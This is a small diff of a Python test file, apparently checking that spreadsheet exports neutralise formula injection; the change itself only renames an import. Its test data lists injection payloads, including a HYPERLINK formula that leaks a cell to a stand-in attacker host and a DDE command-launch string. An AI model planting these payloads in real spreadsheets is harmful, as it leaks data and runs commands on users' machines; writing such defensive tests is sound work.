@@ -10,7 +10,7 @@ import openpyxl
 import pytest
 from test_sec_plans import AS_OF, city  # noqa: F401  (fixture: the fire department's city)
 
-from serving.db.models import Subject
+from serving.db.tables import Subject
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
             "\t=1+1", "\r=1+1"]
